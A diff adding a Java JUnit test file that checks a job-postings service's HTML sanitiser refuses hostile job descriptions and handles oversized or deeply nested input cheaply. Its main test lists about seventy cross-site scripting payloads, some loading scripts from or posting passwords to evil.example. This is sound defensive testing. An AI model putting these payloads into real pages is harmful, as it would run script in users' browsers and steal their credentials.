@@ -1,0 +1,245 @@
+package jobpostings.job.description;
+
+import static jobpostings.job.description.DescriptionChecks.refused;
+import static jobpostings.job.description.DescriptionChecks.stored;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.sun.management.ThreadMXBean;
+import java.lang.management.ManagementFactory;
+import jobpostings.problem.Violations;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Descriptions that try to run scripts where they are shown, or to wear the service down. */
+class DescriptionHostileTest {
+  private static final int ONE_MEBIBYTE = 1024 * 1024;
+  private static final int HALF_A_MEBIBYTE = ONE_MEBIBYTE / 2;
+
+  /** Twice as many as the dearest text that was found takes: short labels of many hosts. */
+  private static final int MOST_BYTES_A_CHARACTER = 2_000;
+
+  private static final ThreadMXBean THREADS = (ThreadMXBean) ManagementFactory.getThreadMXBean();
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "x<script>alert(1)</script>",
+        "x<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "x<script/src=//evil.example/x.js>",
+        "x<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "x<script\u0000>alert(1)</script>",
+        "x<img src=x onerror=alert(1)>",
+        "x<img/src/onerror=alert(1)>",
+        "x<image src=x onerror=alert(1)>",
+        "x<body onload=alert(1)>",
+        "x<html onmouseover=alert(1)>",
+        "x<b onmouseover=alert(1)>y</b>",
+        "x<b/onclick=alert(1)>y</b>",
+        "x<b style=\"background:url(javascript:alert(1))\">y</b>",
+        "x<p id=location>y</p>",
+        "x<br onfocus=alert(1) autofocus tabindex=1>",
+        "x<li xmlns=\"http://www.w3.org/2000/svg\">y</li>",
+        "x<style>@import '//evil.example/x.css';</style>",
+        "x<link rel=stylesheet href=//evil.example>",
+        "x<meta http-equiv=refresh content=0;url=//evil.example>",
+        "x<base href=//evil.example>",
+        "x<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "x<object data=javascript:alert(1)></object>",
+        "x<embed src=javascript:alert(1)>",
+        "x<form action=//evil.example><input name=password></form>",
+        "x<svg onload=alert(1)>",
+        "x<svg><a xlink:href=\"javascript:alert(1)\">y</a></svg>",
+        "x<svg><style><img src=1 onerror=alert(1)></style></svg>",
+        "x<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+        "x<math><mtext><table><mglyph><style><img src=1 onerror=alert(1)></style></mglyph>",
+        "x<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></math>",
+        "x<noscript><p title=\"</noscript><img src=1 onerror=alert(1)>\">",
+        "x<textarea></textarea><script>alert(1)</script>",
+        "x<title><b title=\"</title><script>alert(1)</script>\">",
+        "x<xmp><b title=\"</xmp><script>alert(1)</script>\">",
+        "x<plaintext><script>alert(1)</script>",
+        "x<select><template><script>alert(1)</script></template></select>",
+        "x<template><script>alert(1)</script></template>",
+        "x<table><a href=http://x.example><td></a>y",
+        "x<form><div></form><form><script>alert(1)</script>",
+        "x<!--><script>alert(1)</script>-->",
+        "x<!-- --!><script>alert(1)</script>-->",
+        "x<!--[if IE]><script>alert(1)</script><![endif]-->",
+        "x<![CDATA[<script>alert(1)</script>]]>",
+        "x<?xml-stylesheet href=\"javascript:alert(1)\"?>",
+        "x<a href=\"javascript:alert(1)\">y</a>",
+        "x<a href=\"JaVaScRiPt:alert(1)\">y</a>",
+        "x<a href=\" javascript:alert(1)\">y</a>",
+        "x<a href=\"\u0001javascript:alert(1)\">y</a>",
+        "x<a href=\"java\tscript:alert(1)\">y</a>",
+        "x<a href=\"java&#10;script:alert(1)\">y</a>",
+        "x<a href=\"java&Tab;script&colon;alert(1)\">y</a>",
+        "x<a href=\"&#106;avascript:alert(1)\">y</a>",
+        "x<a href=\"&#x6A&#x61vascript:alert(1)\">y</a>",
+        "x<a href=\"javascript&#58;//x.example/%0Aalert(1)\">y</a>",
+        "x<a href=\"vbscript:msgbox(1)\">y</a>",
+        "x<a href=\"data:text/html,<script>alert(1)</script>\">y</a>",
+        "x<a href=\"//evil.example\">y</a>",
+        "x<a href=\"/\\evil.example\">y</a>",
+        "x<a href=\"http:evil.example\">y</a>",
+        "x<a href=\"http://good.example\\@evil.example\">y</a>",
+        "x<a href=\"http://x.example/\" href=\"javascript:alert(1)\">y</a>",
+        "x<a href=\"http://x.example/\"onclick=alert(1)>y</a>",
+        "x<a href=\"http://x.example/\" target=\"_top\nonclick=alert(1)\">y</a>",
+        "x<a href=`http://x.example/`>y</a>",
+        "x<a href='http://x.example/\"onclick=\"alert(1)'>y</a>",
+        "x<a href=\"http://x.example/\">y<a href=\"javascript:alert(1)\">z</a>",
+        "x\uFFFF<script>alert(1)</script>",
+        "x&#xFFFF;<script>alert(1)</script>",
+        "x<p\u000B>y</p>",
+        "x<\u0000p>y</p>"
+      })
+  void neitherTheScanNorTheParserLetsItThrough(String html) {
+    assertThat(refused(html)).isNotEmpty();
+    assertThat(DescriptionRules.serialise(html).orElse(""))
+        .doesNotContainPattern("(?i)<(?!/?(strong|b|em|i|br|p|div|ul|ol|li|a)[ >])")
+        .doesNotContain("=\"javascript", "onclick", "onmouseover", "style=", "alert");
+  }
+
+  @Test
+  void theParserHasTheLastWord() {
+    assertThat(DescriptionRules.serialise("<p>x")).contains("<p>x</p>");
+    assertThat(DescriptionRules.serialise("<b>an error")).isEmpty();
+    assertThat(DescriptionRules.serialise("<u>another tag</u>")).isEmpty();
+    assertThat(DescriptionRules.serialise("<!-- no element -->")).isEmpty();
+    assertThat(DescriptionRules.serialise("<a>no address</a>")).isEmpty();
+    assertThat(DescriptionRules.serialise("&#xFFFF;dropped when read again")).isEmpty();
+  }
+
+  @Test
+  void markupThatIsTextStaysText() {
+    assertThat(stored("&lt;script>alert(1)&lt;/script>"))
+        .isEqualTo("&lt;script&gt;alert(1)&lt;/script&gt;");
+    assertThat(stored("&amp;lt;img src=x onerror=alert(1)&amp;gt;"))
+        .isEqualTo("&amp;lt;img src=x onerror=alert(1)&amp;gt;");
+    assertThat(stored("&#60;b&#62; &#x3c;svg onload=1&#x3E;"))
+        .isEqualTo("&lt;b&gt; &lt;svg onload=1&gt;");
+    assertThat(stored("<a href=\"http://x.example/?%22%3E%3Cscript%3E&amp;quot;\">y</a>"))
+        .isEqualTo("<a href=\"http://x.example/?%22%3E%3Cscript%3E&amp;quot;\">y</a>");
+    assertThat(stored("+ADw-script+AD4-")).isEqualTo("+ADw-script+AD4-");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"<div>", "<b>", "<ul><li>", "<b><i>", "<p><b>", "<span>"})
+  void deepNestingIsRefusedWithoutRecursion(String tags) {
+    assertCheap(tags.repeat(100_000) + "x", false);
+  }
+
+  @Test
+  void nestingGoes256Deep() {
+    assertThat(stored("<div>".repeat(256) + "x" + "</div>".repeat(256))).startsWith("<div><div>");
+    assertThat(refused("<div>".repeat(257) + "x" + "</div>".repeat(257)))
+        .containsExactly(
+            "html-malformed: <div> at line 1, column 1281 is inside 256 others."
+                + " Nest less deeply.");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "<b>",
+        "<",
+        "&lt",
+        "&x;",
+        "</b>",
+        "<x>",
+        "</x>",
+        "<p><b>",
+        "<p><b x=1></p>",
+        "<a ",
+        "<p x=1 y>",
+        "<a href='",
+        "<a href=mailto:>",
+        "<!--",
+        "<!-- -->",
+        "<script>",
+        "</",
+        "<?",
+        "\u0000"
+      })
+  void hostileTextIsRefusedCheaply(String unit) {
+    assertCheap(unit.repeat(HALF_A_MEBIBYTE / unit.length()), false);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "text ",
+        "&",
+        "&amp;",
+        "é",
+        "x<br>",
+        "<p>x",
+        "<b>x</b>",
+        "<ul><li>x</ul>",
+        "<a href=http://x.example>x</a>"
+      })
+  void soundTextIsStoredCheaply(String unit) {
+    assertCheap(unit.repeat(HALF_A_MEBIBYTE / unit.length()), true);
+  }
+
+  @Test
+  void theLargestBodiesAreCheckedCheaply() {
+    assertCheap("text ".repeat(ONE_MEBIBYTE), true);
+    assertCheap("&".repeat(5 * ONE_MEBIBYTE), true);
+    assertCheap("<".repeat(5 * ONE_MEBIBYTE), false);
+    assertCheap("<b>".repeat(5 * ONE_MEBIBYTE / 3), false);
+  }
+
+  @Test
+  void longTagsAndAddressesAreReadCheaply() {
+    assertCheap("<" + "b".repeat(ONE_MEBIBYTE) + ">x", false);
+    assertCheap("<p " + "a ".repeat(ONE_MEBIBYTE) + ">x", false);
+    assertCheap("&" + "a".repeat(ONE_MEBIBYTE) + ";", false);
+    assertCheap("<a href=\"http://" + "é".repeat(ONE_MEBIBYTE) + "/\">x</a>", false);
+    assertCheap("<a href=\"http://x.example/" + "x".repeat(ONE_MEBIBYTE) + "\">x</a>", true);
+    assertCheap("<b>".repeat(256) + "</i>".repeat(ONE_MEBIBYTE / 4), false);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"<p>x</p>", "<div>x</div>", "<br>", "<b>x</b>", "<ul><li>x</ul>"})
+  void whatIsDeepInOthersIsReadCheaply(String unit) {
+    String start = "<div><b>".repeat(120);
+    String end = "</b></div>".repeat(120);
+    assertCheap(start + unit.repeat(HALF_A_MEBIBYTE / unit.length()) + "x" + end, true);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"</p>", "</li>", "</em>", "</ul>x"})
+  void endsOfNothingDeepInOthersAreRefusedCheaply(String unit) {
+    assertCheap("<div>".repeat(250) + unit.repeat(HALF_A_MEBIBYTE / unit.length()), false);
+  }
+
+  @Test
+  void manyHostsAndAddressesAreReadCheaply() {
+    String labels = "<a href=\"http://" + "é.".repeat(25) + "ca\">x</a>";
+    assertCheap(labels.repeat(HALF_A_MEBIBYTE / labels.length()), true);
+    assertCheap(
+        "<a href=\"mailto:" + "a@b.ca,".repeat(HALF_A_MEBIBYTE / 7) + "a@b.ca\">x</a>", true);
+  }
+
+  @Test
+  void messagesQuoteLittle() {
+    assertThat(refused("<" + "\uD83D\uDE00b".repeat(1000).substring(2) + ">x"))
+        .allSatisfy(violation -> assertThat(violation.length()).isLessThan(200));
+    assertThat(refused("<a href=\"" + "é".repeat(1000) + "\">x</a>"))
+        .allSatisfy(violation -> assertThat(violation.length()).isLessThan(300));
+  }
+
+  /** That what it takes is in proportion to its length. Unlike time, memory can be counted. */
+  private static void assertCheap(String html, boolean isSound) {
+    Violations violations = new Violations();
+    long before = THREADS.getCurrentThreadAllocatedBytes();
+    DescriptionRules.check(html, "/description", violations);
+    long allocated = THREADS.getCurrentThreadAllocatedBytes() - before;
+
+    assertThat(violations.isEmpty()).isEqualTo(isSound);
+    assertThat(allocated / html.length()).isLessThan(MOST_BYTES_A_CHARACTER);
+  }
+}
